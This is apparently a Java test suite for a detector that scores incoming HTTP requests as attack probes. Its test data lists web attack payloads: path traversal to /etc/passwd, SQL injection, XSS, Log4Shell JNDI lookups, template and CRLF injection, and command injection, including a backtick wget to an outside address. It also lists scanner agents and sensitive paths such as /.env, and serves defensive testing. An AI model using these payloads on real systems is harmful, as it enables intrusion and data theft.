package dev.pitwall.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ProbesTest {
  private final Probes probes = new Probes();

  private int score(String target) {
    int query = target.indexOf('?');
    return query < 0
        ? probes.score("GET", target, null, null)
        : probes.score("GET", target.substring(0, query), target.substring(query + 1), null);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2fetc%2fpasswd",
        "/download?file=%252e%252e%252f%252e%252e%252f",
        "/static/..%5c..%5cwindows%5cwin.ini",
        "/cgi/%2e%2e/%2e%2e/bin/sh",
        "/races?id=1%20UNION%20SELECT%20password%20FROM%20users",
        "/races?id=1+UnIoN/**/AlL/**/SeLeCt+1",
        "/races?id=1%27%20OR%201=1",
        "/races?name=x%27;DROP%20TABLE%20users",
        "/races?id=1;SELECT%20PG_SLEEP(5)",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%253Cscript%253E",
        "/search?q=\"><svg/onload=alert(1)>",
        "/?x=${jndi:ldap://198.51.100.9/a}",
        "/?x=%24%7Bjndi:dns://a%7D",
        "/?x=${${lower:j}ndi:x}",
        "/?name={{7*7}}",
        "/races?id=1+union+select+1",
        "/view?file=/etc/passwd",
        "/?next=%0d%0aSet-Cookie:%20a=b",
        "/ping?host=127.0.0.1;cat%20/etc/hosts",
        "/ping?host=`wget http://198.51.100.9`",
        "/index.php%00.png",
        "/a\\x3cscript\\x3e"
      })
  void aProbeScoresFiveOrMore(String target) {
    assertThat(score(target)).isGreaterThanOrEqualTo(Probes.PROBE);
  }

  /** SEC-7: what people and programs really ask for. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/races/17?sort=name&order=desc",
        "/search?q=o%27neill",
        "/search?q=%22exact%20phrase%22",
        "/search?q=select+a+car+from+the+list",
        "/search?q=union+station+select+hotels",
        "/search?q=rock+%27n%27+roll",
        "/search?q=drop+table+tennis",
        "/search?q=where+1+and+1",
        "/search?q=C%2B%2B+or+C%23",
        "/search?q=a+%3C+b+and+b+%3E+c",
        "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
        "/search?q=Gr%C3%BC%C3%9Fe",
        "/search?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82",
        "/search?q=100%25",
        "/search?q=50%25+off+%24+99",
        "/product/red-shirt--xl_2026.html",
        "/product/Yahoo!-mail-(new)",
        "/p/id-00--4711",
        "/api?filter={\"a\":[1,2],\"b\":\"x\"}",
        "/api?filter=%7B%22name%22%3A%22O%27Brien%22%7D",
        "/api?data=eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo",
        "/api?data=aGVsbG8/d29ybGQ+Kys9PQ==",
        "/odata/Races?$filter=Name%20eq%20%27Tokyo%27%20and%20Laps%20gt%2010",
        "/graphql?query=%7Brace(id%3A17)%7Bname%20driver%7Bname%7D%7D%7D",
        "/calendar?from=2026-11-26T03:04:05%2B09:00",
        "/redirect?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d",
        "/mail?to=a%2Bb%40example.com&subject=Re%3A%20...%20and%20more",
        "/files/My%20Document%20(final)%20v2.pdf",
        "/files/a..b/c...txt",
        "/wiki/Script_(disambiguation)",
        "/geo?bbox=-12.5,40.1;13.2,41",
        "/text?body=line%20one%0D%0Aline%20two",
        "/template?name=%7B%7Buser.name%7D%7D",
        "/price?expr=${price}",
        "/docs/../index.html"
      })
  void whatPeopleAskForStaysBelow(String target) {
    assertThat(score(target)).isLessThan(Probes.PROBE);
  }

  @Test
  void aScannersNameAndAStrangeMethodAddToIt() {
    assertThat(probes.score("GET", "/", null, "sqlmap/1.7")).isPositive();
    assertThat(probes.score("TRACE", "/", null, "Nikto/2.5")).isGreaterThanOrEqualTo(Probes.PROBE);
    assertThat(probes.score("GET", "/", null, "Mozilla/5.0 (X11; Linux x86_64)")).isZero();
    assertThat(probes.score("", "/", null, null)).isPositive();
  }

  @ParameterizedTest
  @CsvSource({
    "/.env, true",
    "/app/.git/config, true",
    "/WP-Login.php, true",
    "/actuator/heapdump, true",
    "/%2e%65nv, true",
    "/races/17, false",
    "/environment, false",
    "/.well-known/security.txt, false"
  })
  void pathsThatOnlyScannersAskForAreKnown(String path, boolean known) {
    assertThat(probes.known(path)).isEqualTo(known);
  }

  @Property(tries = 3_000)
  void anyTextHasAScore(@ForAll String path, @ForAll String query, @ForAll String agent) {
    Probes fresh = new Probes();
    assertThat(fresh.score("GET", path, query, agent)).isNotNegative();
    assertThat(fresh.known(path)).isIn(true, false);
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void encodingAProbeDoesNotHideIt(boolean twice) {
    String text = URLEncoder.encode("' UNION  SELECT 1 --", StandardCharsets.UTF_8);
    String sent = twice ? URLEncoder.encode(text, StandardCharsets.UTF_8) : text;
    assertThat(score("/a?q=" + sent)).isGreaterThanOrEqualTo(Probes.PROBE);
  }

  @Test
  void aVeryLongTargetIsLookedAtToItsBound() {
    assertThat(score("/?q=" + "<".repeat(1_000_000))).isLessThan(Probes.PROBE);
    assertThat(score("/?q=" + "/*".repeat(1_000_000))).isLessThan(Probes.PROBE);
  }
}
